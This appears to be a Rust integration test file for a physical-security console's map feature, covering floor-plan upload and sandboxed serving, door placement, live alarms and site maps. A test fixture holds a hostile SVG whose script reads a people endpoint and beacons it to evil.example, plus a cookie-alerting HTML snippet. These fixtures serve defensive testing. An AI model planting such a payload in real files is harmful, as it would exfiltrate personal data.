//! Maps as a control room uses them: a floor plan uploaded and served so it cannot run script,
//! doors placed on it (by API and by the console's form), their live state on the plan and in
//! the table beside it, and the sites drawn from their coordinates.

mod support;

use serde_json::{Value, json};
use std::io::{BufRead, BufReader};
use std::sync::mpsc;
use std::time::{Duration, Instant};
use support::TestServer;

const PLACES: &str = "
places:
  - { id: osl, kind: site, name: Oslo HQ, lat: 59.91, lon: 10.75, time_zone: Europe/Oslo, country: NO, city: Oslo }
  - { id: brg, kind: site, name: Bergen office, lat: 60.39, lon: 5.32, country: NO, city: Bergen }
  - { id: osl-a, kind: building, name: Building A, parent: osl }
  - { id: osl-a-2, kind: floor, name: Floor 2, parent: osl-a }
  - { id: osl-a-2-d1, kind: door, name: Lab door, parent: osl-a-2, x: 0.25, y: 0.5 }
  - { id: osl-a-2-d2, kind: door, name: Stair door, parent: osl-a-2 }
  - { id: osl-a-2-c1, kind: camera, name: Corridor camera, parent: osl-a-2, x: 0.8, y: 0.2 }
";

/// An SVG plan that would run script if a browser ever treated it as a page of the console.
const PLAN: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1200 800" width="1200" height="800">
  <rect x="10" y="10" width="1180" height="780" fill="none" stroke="black"/>
  <script>fetch('/api/v1/people').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>
</svg>"#;

fn send(
    server: &TestServer,
    method: &str,
    path: &str,
    token: &str,
    content_type: &str,
    body: &[u8],
) -> (u16, Value) {
    try_send(server, method, path, token, content_type, body).expect("request sent")
}

/// [`send`], but a connection the server closed while the body was still going out is an
/// `Err`: a server refusing an oversize body may answer and close before it has all arrived.
fn try_send(
    server: &TestServer,
    method: &str,
    path: &str,
    token: &str,
    content_type: &str,
    body: &[u8],
) -> Result<(u16, Value), ureq::Error> {
    let req = ureq::http::Request::builder()
        .method(method)
        .uri(format!("{}{path}", server.url))
        .header("Authorization", format!("Bearer {token}"))
        .header("Content-Type", content_type)
        .body(body.to_vec())
        .unwrap();
    let mut resp = TestServer::agent().run(req)?;
    let status = resp.status().as_u16();
    let text = resp.body_mut().read_to_string().unwrap_or_default();
    Ok((
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    ))
}

/// Reads `/live/stream` lines on a thread so the test waits with a deadline.
fn open_stream(server: &TestServer, query: &str) -> mpsc::Receiver<String> {
    let resp = TestServer::agent()
        .get(format!("{}/live/stream{query}", server.url))
        .header("Authorization", format!("Bearer {}", server.token))
        .call()
        .expect("stream opens");
    assert_eq!(resp.status().as_u16(), 200);
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let reader = BufReader::new(resp.into_body().into_reader());
        for line in reader.lines() {
            let Ok(line) = line else { break };
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    rx
}

/// The first line of the stream that satisfies `want`.
fn wait_line(rx: &mpsc::Receiver<String>, want: impl Fn(&str) -> bool) -> String {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        let line = rx.recv_timeout(left).expect("the stream sends the line");
        if want(&line) {
            return line;
        }
    }
}

#[test]
fn a_floor_plan_is_uploaded_doors_are_placed_and_their_alarms_show_on_the_maps() {
    let dir = tempfile::tempdir().unwrap();
    let roles = ["physical_security".to_owned(), "soc_analyst".to_owned()];
    let (server, seeded) = support::start_with_accounts(&dir.path().join("data"), &roles, &[]);
    let (guard, analyst) = (&seeded[0].token, &seeded[1].token);
    let admin = server.token.clone();
    let (status, body) = send(
        &server,
        "POST",
        "/api/v1/directory/records?file=places.yaml",
        &admin,
        "application/yaml",
        PLACES.as_bytes(),
    );
    assert_eq!(status, 200, "{body}");

    // The control room uploads the plan; it is kept and named by its hash.
    let (status, body) = send(
        &server,
        "PUT",
        "/api/v1/places/osl-a-2/floor-plan",
        guard,
        "image/svg+xml",
        PLAN.as_bytes(),
    );
    assert_eq!(status, 200, "{body}");
    let hash = tandem_store::hash_key(PLAN);
    assert_eq!(body["floor_plan"], hash.as_str());
    assert_eq!(
        (body["width"].as_f64(), body["height"].as_f64()),
        (Some(1200.0), Some(800.0))
    );
    let (_, floor) = server.get("/api/v1/places/osl-a-2", &[]);
    assert_eq!(floor["place"]["floor_plan"], hash.as_str());

    // Served only as an inert image: no script, nothing loaded, no sniffing.
    let resp = TestServer::agent()
        .get(format!("{}/floor-plans/{hash}", server.url))
        .header("Authorization", format!("Bearer {analyst}"))
        .call()
        .unwrap();
    assert_eq!(resp.status().as_u16(), 200);
    let header = |name: &str| {
        resp.headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned()
    };
    assert_eq!(header("content-type"), "image/svg+xml");
    assert_eq!(
        header("content-security-policy"),
        "default-src 'none'; style-src 'unsafe-inline'; sandbox"
    );
    assert_eq!(header("x-content-type-options"), "nosniff");
    assert_eq!(
        server
            .get(&format!("/floor-plans/{}", "0".repeat(64)), &[])
            .0,
        404
    );

    // What is refused, and why.
    let html = b"<html><body><script>alert(document.cookie)</script></body></html>";
    for (token, path, kind, body, status, why) in [
        (
            analyst,
            "/api/v1/places/osl-a-2/floor-plan",
            "image/svg+xml",
            PLAN.as_bytes(),
            403,
            "your role does not allow this",
        ),
        (
            guard,
            "/api/v1/places/osl-a-2/floor-plan",
            "image/svg+xml",
            html.as_slice(),
            415,
            "the file is not the image/svg+xml image it says it is",
        ),
        (
            guard,
            "/api/v1/places/osl-a-2/floor-plan",
            "text/html",
            html.as_slice(),
            415,
            "a floor plan is a PNG (image/png) or SVG (image/svg+xml) image, not text/html",
        ),
        (
            guard,
            "/api/v1/places/osl-a-2-d1/floor-plan",
            "image/svg+xml",
            PLAN.as_bytes(),
            400,
            "`osl-a-2-d1` is a door; floor plans belong to floors",
        ),
        (
            guard,
            "/api/v1/places/nowhere/floor-plan",
            "image/svg+xml",
            PLAN.as_bytes(),
            404,
            "no place `nowhere`",
        ),
    ] {
        let (got, answer) = send(&server, "PUT", path, token, kind, body);
        assert_eq!(
            (got, answer["error"].as_str().unwrap_or_default()),
            (status, why)
        );
    }
    let huge = vec![b' '; 9 * 1024 * 1024];
    match try_send(
        &server,
        "PUT",
        "/api/v1/places/osl-a-2/floor-plan",
        guard,
        "image/svg+xml",
        &huge,
    ) {
        Ok((got, answer)) => assert_eq!(
            (got, answer["error"].as_str()),
            (413, Some("a floor plan is at most 8 MiB"))
        ),
        // Refused and closed before the whole body was sent: what matters is below.
        Err(ureq::Error::Io(e))
            if matches!(
                e.kind(),
                std::io::ErrorKind::BrokenPipe | std::io::ErrorKind::ConnectionReset
            ) => {}
        Err(e) => panic!("oversize upload: {e}"),
    }
    let (_, floor) = server.get("/api/v1/places/osl-a-2", &[]);
    assert_eq!(
        floor["place"]["floor_plan"],
        hash.as_str(),
        "an oversize upload replaced nothing"
    );

    // Placing the stair door through the API; a position off the plan is refused.
    let (status, body) = send(
        &server,
        "PUT",
        "/api/v1/places/osl-a-2-d2/position",
        guard,
        "application/json",
        json!({"x": 0.6, "y": 0.4}).to_string().as_bytes(),
    );
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        (body["place"]["x"].as_f64(), body["place"]["y"].as_f64()),
        (Some(0.6), Some(0.4))
    );
    let (status, body) = send(
        &server,
        "PUT",
        "/api/v1/places/osl-a-2-d2/position",
        guard,
        "application/json",
        json!({"x": 1.5, "y": 0.4}).to_string().as_bytes(),
    );
    assert_eq!(
        (status, body["error"].as_str()),
        (
            400,
            Some("place `osl-a-2-d2`: x and y are fractions of the plan, from 0 to 1")
        )
    );
    let (status, _) = send(
        &server,
        "PUT",
        "/api/v1/places/osl-a-2-d2/position",
        analyst,
        "application/json",
        br#"{"x": 0.1, "y": 0.1}"#,
    );
    assert_eq!(status, 403);

    // Every map change is in the audit log, with who made it.
    let (_, audit) = server.get("/api/v1/audit", &[]);
    let entries: Vec<(String, String, String)> = audit["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["action"].as_str().unwrap_or_default().to_owned(),
                e["target"].as_str().unwrap_or_default().to_owned(),
                e["actor"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    assert!(
        entries.contains(&(
            "map.floor_plan".into(),
            "place:osl-a-2".into(),
            format!("token-{}", seeded[0].user)
        )),
        "{entries:?}"
    );
    assert!(
        entries.contains(&(
            "map.place".into(),
            "place:osl-a-2-d2".into(),
            format!("token-{}", seeded[0].user)
        )),
        "{entries:?}"
    );

    // The lab door is forced open while a guard watches the site's stream.
    let stream = open_stream(&server, "?site=osl");
    wait_line(&stream, |l| l == "event: ready");
    let key = server.add_source("doors", "tandem");
    let line = json!({"time": chrono::Utc::now().to_rfc3339(), "class": "physical_access",
        "activity": "forced", "outcome": "failure", "place": {"door": "Lab door"}});
    let (status, report) = server.ingest("doors", &key, format!("{line}\n").as_bytes(), &[]);
    assert_eq!(
        (status, report["accepted"].as_u64()),
        (200, Some(1)),
        "{report}"
    );
    let row = wait_line(&stream, |l| {
        l.starts_with("data:") && l.contains("osl-a-2-d1")
    });
    let row: Value = serde_json::from_str(row.trim_start_matches("data:").trim()).unwrap();
    assert_eq!(row["door_state"], "Forced open");
    assert_eq!(row["door_alarm"], true);

    // The floor map: the plan as an image, markers where they were placed, the alarm on the
    // forced door, and the same in the table.
    let console = server.admin_console();
    let page = console.get("/places/osl-a-2/map");
    assert_eq!(page.status, 200);
    let text = page.body;
    assert!(
        text.contains(&format!("<image href=\"&#x2f;floor-plans&#x2f;{hash}\"")),
        "{text}"
    );
    assert!(
        !text.contains("sendBeacon"),
        "the plan's own markup never enters the page"
    );
    assert!(
        text.contains("class=\"marker door alarm\" data-id=\"osl-a-2-d1\""),
        "{text}"
    );
    assert!(text.contains("<circle cx=\"300.0\" cy=\"400.0\""), "{text}");
    assert!(text.contains("<circle cx=\"960.0\" cy=\"160.0\""), "{text}");
    assert!(text.contains("Lab door (Door): Forced open"));
    assert!(
        text.contains("<td>Corridor camera</td>") || text.contains(">Corridor camera</a></td>")
    );
    assert!(text.contains("25.0% across, 50.0% down"), "{text}");
    assert!(text.contains("60.0% across, 40.0% down"), "{text}");

    // The console's form places without dragging (the position in percent).
    let csrf = console.csrf("/places/osl-a-2/map");
    let moved = console.post_form(
        "/places/osl-a-2/map/position",
        &[
            ("csrf", &csrf),
            ("item", "osl-a-2-c1"),
            ("x", "12.5"),
            ("y", "75"),
        ],
    );
    assert_eq!(
        (moved.status, moved.location.as_deref()),
        (303, Some("/places/osl-a-2/map"))
    );
    let (_, camera) = server.get("/api/v1/places/osl-a-2-c1", &[]);
    assert_eq!(
        (camera["place"]["x"].as_f64(), camera["place"]["y"].as_f64()),
        (Some(0.125), Some(0.75))
    );
    let stale = console.post_form(
        "/places/osl-a-2/map/position",
        &[("item", "osl-a-2-c1"), ("x", "1"), ("y", "1")],
    );
    assert_eq!(stale.status, 403);

    // The door's place page leads to the plan it is on.
    let door = console.get("/places/osl-a-2-d1").body;
    assert!(
        door.contains("href=\"&#x2f;places&#x2f;osl-a-2&#x2f;map\"")
            || door.contains("href=\"/places/osl-a-2/map\""),
        "{door}"
    );

    // The site overview: both sites drawn from their coordinates, Bergen west of Oslo; the
    // alarm counted at Oslo; the floor plan listed.
    let overview = console.get("/map").body;
    let cx = |site: &str| -> f64 {
        let at = overview
            .find(&format!("data-site=\"{site}\" data-name"))
            .unwrap();
        let c = &overview[at..];
        let start = c.find("cx=\"").unwrap() + 4;
        c[start..start + c[start..].find('"').unwrap()]
            .parse()
            .unwrap()
    };
    assert!(cx("brg") < cx("osl"), "{overview}");
    assert!(
        overview.contains("class=\"marker site alarm\" data-site=\"osl\""),
        "{overview}"
    );
    assert!(
        overview.contains("class=\"marker site\" data-site=\"brg\""),
        "{overview}"
    );
    assert!(
        overview.contains("<td class=\"alarms\">1</td>"),
        "{overview}"
    );
    assert!(overview.contains("Building A, Floor 2"), "{overview}");

    // An analyst sees the maps but has no controls to change them.
    let mut resp = TestServer::agent()
        .get(format!("{}/places/osl-a-2/map", server.url))
        .header("Authorization", format!("Bearer {analyst}"))
        .call()
        .unwrap();
    assert_eq!(resp.status().as_u16(), 200);
    let analyst_text = resp.body_mut().read_to_string().unwrap();
    assert!(analyst_text.contains("Lab door"));
    assert!(!analyst_text.contains("plan-upload") && !analyst_text.contains("data-edit"));
}

/// `/map` as the console serves it: the page and its Content-Security-Policy.
fn site_map(server: &TestServer) -> (String, String) {
    let console = server.admin_console();
    let mut resp = support::no_redirects()
        .get(format!("{}/map", server.url))
        .header("Cookie", &console.cookie)
        .call()
        .expect("request sent");
    assert_eq!(resp.status().as_u16(), 200);
    let csp = resp
        .headers()
        .get("content-security-policy")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    (resp.body_mut().read_to_string().unwrap(), csp)
}

#[test]
fn sites_are_drawn_on_tiles_only_where_a_tile_server_is_configured() {
    // By default: no tiles, and the policy allows images from Tandem alone.
    let dir = tempfile::tempdir().unwrap();
    let server = TestServer::start(&dir.path().join("data"), None, &[]);
    let (status, body) = server.post("/api/v1/directory/records?file=places.yaml", PLACES);
    assert_eq!(status, 200, "{body}");
    let (page, csp) = site_map(&server);
    assert!(!page.contains("<image"), "{page}");
    assert!(page.contains("no background map"), "{page}");
    assert!(csp.contains("img-src 'self' data:;"), "{csp}");
    assert!(!csp.contains("tiles.example.net"), "{csp}");
    drop(server);

    // With a tile server: Oslo and Bergen drawn on its tiles, its origin (and only it) allowed.
    let dir = tempfile::tempdir().unwrap();
    let server = TestServer::start(
        &dir.path().join("data"),
        None,
        &[
            (
                "TANDEM_MAPS__TILE_URL",
                "https://tiles.example.net:8443/osm/{z}/{x}/{y}.png",
            ),
            (
                "TANDEM_MAPS__TILE_ATTRIBUTION",
                "© OpenStreetMap contributors",
            ),
        ],
    );
    let (status, body) = server.post("/api/v1/directory/records?file=places.yaml", PLACES);
    assert_eq!(status, 200, "{body}");
    let (page, csp) = site_map(&server);
    assert!(
        csp.contains("img-src 'self' data: https://tiles.example.net:8443;"),
        "{csp}"
    );
    assert!(
        csp.contains("script-src 'self';") && csp.contains("connect-src 'self';"),
        "only images may come from the tile server: {csp}"
    );
    // Oslo and Bergen are 300 km apart: they fit at zoom 7, Oslo on tile 67/37, Bergen on 65/36.
    let tile = |x: u32, y: u32| {
        format!(
            "href=\"https:&#x2f;&#x2f;tiles.example.net:8443&#x2f;osm&#x2f;7&#x2f;{x}&#x2f;{y}.png\""
        )
    };
    assert!(page.contains(&tile(67, 37)), "Oslo's tile is drawn: {page}");
    assert!(
        page.contains(&tile(65, 36)),
        "Bergen's tile is drawn: {page}"
    );
    assert!(page.contains("on map tiles from https:&#x2f;&#x2f;tiles.example.net:8443 (© OpenStreetMap contributors)"), "{page}");
    // The table beside the map still says everything the map does.
    assert!(page.contains("Bergen office") && page.contains("60.3900, 5.3200"));

    // A template without the tile numbers is refused before the server starts.
    let out = support::tandem()
        .arg("config")
        .env("TANDEM_MAPS__TILE_URL", "https://tiles.example.net/map.png")
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("maps.tile_url") && err.contains("{z}"),
        "{err}"
    );
}
